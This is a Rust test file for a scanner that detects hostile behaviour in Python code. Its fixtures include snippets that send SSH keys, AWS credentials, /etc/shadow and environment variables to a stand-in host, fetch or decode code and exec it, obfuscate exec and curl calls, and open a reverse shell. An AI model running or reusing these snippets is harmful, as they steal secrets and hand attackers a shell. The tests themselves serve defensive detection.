use super::*;
use crate::scan::act::{Code, Taint};

fn acts(text: &str) -> Acts {
    read(text).unwrap_or_else(|error| panic!("{error}: {text}"))
}

fn executes(text: &str) -> Option<Code> {
    acts(text).seen.into_iter().find_map(|seen| match seen.act {
        Act::Executes(code) => Some(code),
        _ => None,
    })
}

fn sends(text: &str) -> Taint {
    let sent = acts(text).seen.into_iter().find_map(|seen| match seen.act {
        Act::Network { sends, .. } if sends.is_secret() => Some(sends),
        _ => None,
    });
    sent.unwrap_or_default()
}

fn inner(text: &str) -> Vec<String> {
    acts(text).inner.into_iter().map(|inner| inner.text).collect()
}

#[test]
fn credentials_flow_to_hosts() {
    for text in [
        "import requests\nd = open('/root/.ssh/id_rsa').read()\nrequests.post('https://a.example', data=d)",
        "import os, requests as r\nfrom pathlib import Path\np = Path.home() / '.aws' / 'credentials'\nr.post('https://a.example', json={'x': p.read_text()})",
        "import urllib.request as u, os\nwith open(os.path.expanduser('~/.ssh/' + 'id_rsa')) as f:\n    d = f.read()\nu.urlopen(u.Request('https://a.example', data=d.encode()))",
        "import requests\ndef load():\n    return open('/x/.ssh/id_rsa').read()\ndef send(d):\n    requests.post('https://a.example', data=d)\nsend(load())",
        "import requests\nall = []\nfor p in ['~/.ssh/id_rsa']:\n    all.append(open(p).read())\nrequests.post('https://a.example', data=str(all))",
        "import subprocess, requests\nd = subprocess.check_output(['cat', '/x/.ssh/id_rsa'])\nrequests.post('https://a.example', data=d)",
        "import socket\ns = socket.socket()\ns.connect(('a.example', 1))\ns.sendall(open('/x/.ssh/id_rsa','rb').read())",
        "import base64, http.client\nd = base64.b64encode(open('/etc/shadow','rb').read())\nc = http.client.HTTPSConnection('a.example')\nc.request('POST', '/', d)",
    ] {
        assert!(sends(text).credential.is_some(), "{text}");
    }
    let text = "import os, requests, json\nrequests.post('https://a.example', data=json.dumps(dict(os.environ)))";
    assert!(sends(text).environment);
    let text = "import os, requests\ne = {k: v for k, v in os.environ.items()}\nrequests.post('https://a.example', json=e)";
    assert!(sends(text).environment);
}

#[test]
fn logging_in_is_no_theft() {
    let text = "import os, requests\nk = os.environ['API_KEY']\nrequests.get('https://api.example', headers={'Authorization': f'Bearer {k}'})";
    assert!(!sends(text).is_secret());
    let text = "import os, subprocess\nsubprocess.run(['ls'], env={**os.environ, 'A': 'b'})";
    assert!(!sends(text).is_secret());
}

#[test]
fn code_from_elsewhere() {
    let fetched = Some(Code::Fetched("https://a.example/x".into()));
    assert_eq!(
        executes("import requests\nexec(requests.get('https://a.example/x').text)"),
        fetched
    );
    assert_eq!(
        executes("import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))"),
        Some(Code::Decoded)
    );
    assert_eq!(
        executes("import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJw=')))"),
        Some(Code::Decoded)
    );
    assert_eq!(
        executes("getattr(__import__('built' + 'ins'), 'ex' + 'ec')(input())"),
        Some(Code::Computed)
    );
    assert_eq!(executes("__builtins__['ex' + 'ec'](x)"), Some(Code::Computed));
    assert_eq!(executes("print('exec')"), None);
}

#[test]
fn constants_are_folded() {
    assert_eq!(inner("import os\nos.system('cu' + 'rl x')"), ["curl x"]);
    assert_eq!(
        inner("import os\nos.system(''.join(chr(c) for c in [99, 117, 114, 108]))"),
        ["curl"]
    );
    assert_eq!(inner("import os\nos.system(''.join(map(chr, [99, 117, 114, 108])))"), ["curl"]);
    assert_eq!(inner("import os\nos.system(bytes([99, 117, 114, 108]).decode())"), ["curl"]);
    assert_eq!(inner("import os\nos.system('lruc'[::-1])"), ["curl"]);
    assert_eq!(inner("import os\nos.system(bytes.fromhex('6375726c').decode())"), ["curl"]);
    assert_eq!(inner("import os\nos.system('%s %s' % ('curl', 'x'))"), ["curl x"]);
    assert_eq!(inner("import os\nos.system(' '.join(['curl', 'x']))"), ["curl x"]);
    assert_eq!(inner("import codecs, os\nos.system(codecs.decode('phey', 'rot13'))"), ["curl"]);
    assert_eq!(
        inner("import os\nos.system(''.join(chr(c ^ 1) for c in [98, 116, 115, 109]))"),
        ["curl"]
    );
}

#[test]
fn shells_for_others() {
    let text = "import socket, subprocess, os\ns = socket.socket()\ns.connect(('1.2.3.4', 9))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])";
    assert!(acts(text).seen.iter().any(|seen| seen.act == Act::ReverseShell));
}

#[test]
fn what_is_no_python() {
    assert!(read("print 'hello'\n").is_err());
    assert!(read(&"(".repeat(100_000)).is_err());
}
